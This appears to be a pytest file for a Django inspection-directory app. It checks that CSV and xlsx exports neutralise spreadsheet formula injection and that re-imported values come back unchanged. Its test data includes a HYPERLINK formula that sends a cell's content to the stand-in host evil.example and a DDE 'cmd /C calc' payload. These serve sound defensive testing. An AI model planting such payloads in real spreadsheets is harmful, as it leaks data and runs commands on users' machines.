"""Exported cells that a spreadsheet would run as formulas are written as text (OWASP's CSV
injection rule: a leading single quote; xlsx cells typed as strings), and the importer reads
them back to the same values (issue 11, item 6)."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from spotcheck.directory.models import InspectionObject
from spotcheck.imports.columns import OBJECT_COLUMNS
from spotcheck.imports.models import ImportJob
from spotcheck.imports.readers import open_table
from spotcheck.imports.services import import_file
from spotcheck.inspectors.models import Inspector
from tests.factories import (
    INSPECTOR_HEADER,
    OBJECT_HEADER,
    inspector_row,
    make_uscc,
    object_row,
)
from tests.fixtures.imports import download_export

pytestmark = pytest.mark.django_db

HOSTILE = {
    1: '=HYPERLINK("http://evil.example/?"&C2,"点击查看")',
    2: "+1+2企业",
    3: "-减号开头的企业",
    4: "@SUM(1+1)*cmd|' /C calc'!A0",
    5: "'=已带引号的名称",  # already quoted once: must come back with its quote
    6: "普通企业",
}
NAME = [c.header for c in OBJECT_COLUMNS].index("名称")


@pytest.fixture
def hostile_objects(scjg_admin, scjg, codes, run_import):
    # A CSV typed by hand is read as an export would have written it: the quoted name is typed
    # with two quotes.
    rows = [object_row(make_uscc(n), "'" + name if n == 5 else name) for n, name in HOSTILE.items()]
    run = run_import(scjg_admin, "objects", [OBJECT_HEADER, *rows], scjg)
    assert run.job.status == ImportJob.Status.SUCCEEDED, run.outcome.errors
    assert set(InspectionObject.objects.values_list("name", flat=True)) == set(HOSTILE.values())


def _names_by_uscc(rows):
    return {row[0]: row[NAME] for row in rows}


def test_xlsx_export_writes_formula_like_names_as_quoted_text(scjg_admin, hostile_objects, login):
    response = download_export(login(scjg_admin), "objects")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = {row[0].value: row[NAME] for row in sheet.iter_rows(min_row=2)}
    for n, name in HOSTILE.items():
        cell = cells[make_uscc(n)]
        assert cell.data_type == "s", name
        assert cell.value == (name if n == 6 else "'" + name)


def test_csv_export_prefixes_a_single_quote(scjg_admin, hostile_objects, login):
    response = download_export(login(scjg_admin), "objects", "format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = _names_by_uscc(rows[1:])
    assert names[make_uscc(1)] == "'" + HOSTILE[1]
    assert names[make_uscc(2)] == "'+1+2企业"
    assert names[make_uscc(3)] == "'-减号开头的企业"
    assert names[make_uscc(4)].startswith("'@")
    assert names[make_uscc(5)] == "''=已带引号的名称"
    assert names[make_uscc(6)] == "普通企业"
    # No cell of the file begins with a formula trigger any more.
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_export_then_import_gives_the_same_names(scjg_admin, scjg, hostile_objects, login, tmp_path, fmt):
    response = download_export(login(scjg_admin), "objects", f"format={fmt}")
    path = tmp_path / f"导出.{fmt}"
    path.write_bytes(response.content)
    run = import_file(actor=scjg_admin, kind="objects", path=str(path), department=scjg)
    assert run.job.status == ImportJob.Status.SUCCEEDED, run.outcome.errors
    assert (run.job.created_count, run.job.updated_count, run.job.unchanged_count) == (0, 0, len(HOSTILE))
    assert {o.uscc: o.name for o in InspectionObject.objects.all()} == {make_uscc(n): v for n, v in HOSTILE.items()}


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_inspector_phone_with_plus_round_trips(scjg_admin, scjg, codes, run_import, login, tmp_path, fmt):
    header = [*INSPECTOR_HEADER, "联系电话"]
    run = run_import(scjg_admin, "inspectors", [header, [*inspector_row("P001"), "+8613912345678"]], scjg)
    assert run.job.status == ImportJob.Status.SUCCEEDED, run.outcome.errors
    # Inspectors (with their phone numbers) are exported by their department's admin.
    response = download_export(login(scjg_admin), "inspectors", f"format={fmt}")
    path = tmp_path / f"人员.{fmt}"
    path.write_bytes(response.content)
    run = import_file(actor=scjg_admin, kind="inspectors", path=str(path), department=scjg)
    assert run.job.status == ImportJob.Status.SUCCEEDED, run.outcome.errors
    assert run.job.unchanged_count == 1
    assert Inspector.objects.get().phone == "+8613912345678"


def test_template_lists_code_table_names_as_text(scjg_admin, codes, login):
    # A department's short name is typed by an administrator; the template lists the names.
    from spotcheck.accounts.models import Department

    Department.objects.exclude(pk=scjg_admin.memberships.get().department_id).update(is_active=False)
    Department.objects.filter(is_active=True).update(short_name='=HYPERLINK("//e.cn")')  # 20 characters at most
    response = login(scjg_admin).get("/imports/template/inspectors/")
    workbook = load_workbook(io.BytesIO(response.content))
    texts = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert [c for c in texts if "//e.cn" in c.value]
    assert all(c.data_type == "s" and not c.value.startswith("=") for c in texts)
    # Nor does the name end the drop-down list's string and run in its formula.
    validations = workbook.worksheets[0].data_validations.dataValidation
    assert not [v for v in validations if "//e.cn" in (v.formula1 or "")]


@pytest.mark.parametrize(
    ("typed", "read"),
    [
        ("-5", "-5"),  # a negative number typed into a CSV stays a negative number
        ("'-5", "-5"),  # …and so does the same number exported as quoted text
        ("'=A1", "=A1"),
        ("''=A1", "'=A1"),
        ("'普通文本", "'普通文本"),  # a quote before anything else is the user's own
        ("'", "'"),
    ],
)
def test_reader_reads_quoted_cells_back(typed, read):
    data = f"名称,数值\n{typed},{typed}\n".encode()
    with open_table(io.BytesIO(data), "a.csv") as table:
        assert list(table.rows) == [(2, [read, read])]


def test_negative_numbers_in_xlsx_stay_numbers(tmp_path):
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append(["名称", "数值"])
    workbook.active.append(["'-引号", -5])
    workbook.save(tmp_path / "a.xlsx")
    with open(tmp_path / "a.xlsx", "rb") as fh, open_table(fh, "a.xlsx") as table:
        assert list(table.rows) == [(2, ["-引号", "-5"])]
